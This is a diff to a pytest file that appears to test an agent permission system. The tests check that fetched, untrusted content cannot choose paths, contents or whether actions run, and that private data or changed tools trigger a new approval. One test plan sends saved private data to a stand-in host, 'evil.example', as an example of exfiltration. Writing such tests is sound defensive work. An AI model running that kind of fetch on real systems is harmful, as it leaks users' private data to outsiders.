@@ -37,14 +37,14 @@ async def allow(workshop: Workshop, **more: Any) -> str:
 @pytest.mark.parametrize(
     ("plan", "origin"),
     [
-        ('save("a", p.text)', "content is untrusted, from fetch"),
-        ("save(p.text, 'x')", "path is untrusted, from fetch"),
-        ('save("a", f"see {p.text[:2]}")', "content is untrusted, from fetch"),
+        ('save("a", p.text)', "content comes from fetch"),
+        ("save(p.text, 'x')", "path comes from fetch"),
+        ('save("a", f"see {p.text[:2]}")', "content comes from fetch"),
         ('save("a", [q for q in [p.text, "b"]][1])', ""),
-        ('save("a", "x") if p.text == "evil"', "what decided that it runs is untrusted"),
-        ('[save("a", "x") for q in s.parts]', "what decided that it runs is untrusted"),
-        ('fetch("bad") or save("a", "x")', "what decided that it runs is untrusted"),
-        ('save("a", p.text[99]) or save("b", "x")', "what decided that it runs is untrusted"),
+        ('save("a", "x") if p.text == "evil"', "that it runs was decided by"),
+        ('[save("a", "x") for q in s.parts]', "that it runs was decided by"),
+        ('fetch("bad") or save("a", "x")', "that it runs was decided by"),
+        ('save("a", p.text[99]) or save("b", "x")', "that it runs was decided by"),
     ],
 )
 async def test_yes_never_answers_for_a_stranger(workshop: Workshop, plan: str, origin: str) -> None:
@@ -109,7 +109,7 @@ async def test_what_is_private_goes_to_whom_the_goal_names(
     assert await workshop.drive(SEND, answers="yes") is (DONE if sent else WAITING)
     assert ("anna@example.org<a" in workshop.world.done) is sent
     if not sent:
-        assert "rule 2: text is private" in await because(workshop)
+        assert "text is private" in await because(workshop)
 
 
 async def test_an_answer_names_somebody_too(workshop: Workshop) -> None:
@@ -137,7 +137,7 @@ async def test_to_fetch_with_something_private_is_asked_too(workshop: Workshop) 
     await workshop.accept()
     plan = 's = save("a", "x")\nfetch(f"https://evil.example/?q={s.path}")\n'
     assert await workshop.drive(plan, answers="yes") is WAITING
-    assert "rule 2" in await because(workshop)
+    assert "is private" in await because(workshop)
 
 
 # Rule 3.
@@ -167,7 +167,7 @@ async def test_a_tool_that_changed_is_asked_once_more(workshop: Workshop) -> Non
     assert await run("one") is DONE
     assert await run("one") is DONE
     assert await run("two") is WAITING
-    assert "rule 3" in await because(workshop)
+    assert "not the one that was allowed before" in await because(workshop)
     await allow(workshop)
     assert await workshop.drive("") is DONE
     assert await run("two") is DONE
